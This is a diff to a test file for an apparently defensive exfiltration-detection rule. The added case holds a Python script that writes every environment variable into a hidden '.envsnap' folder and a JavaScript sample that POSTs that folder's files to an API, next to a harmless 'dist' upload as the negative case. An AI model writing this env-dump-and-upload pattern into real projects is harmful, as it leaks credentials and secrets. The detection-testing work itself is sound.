@@ -326,6 +326,19 @@ describeRuleCases('exfiltration', [
       "const { version } = require('./version');\nhttps.request({ host, method: 'POST' }).end(JSON.stringify(version()));\n",
   },
   {
+    // Collected in one script, left in a hidden folder, uploaded by another: the folder links them.
+    id: 'SG-EXFIL-015',
+    file: 'scripts/push.mjs',
+    others: {
+      'scripts/snap.py':
+        'import json, os\nfrom pathlib import Path\nOUT = Path(".envsnap")\nOUT.mkdir(exist_ok=True)\n(OUT / "run.json").write_text(json.dumps(dict(os.environ)))\n',
+    },
+    positive:
+      "const dir = '.envsnap';\nfor (const f of await readdir(dir)) await fetch(API, { method: 'POST', body: await readFile(path.join(dir, f)) });\n",
+    negative:
+      "const dir = 'dist';\nfor (const f of await readdir(dir)) await fetch(API, { method: 'POST', body: await readFile(path.join(dir, f)) });\n",
+  },
+  {
     id: 'SG-EXFIL-001',
     file: 'scripts/report.py',
     positive:
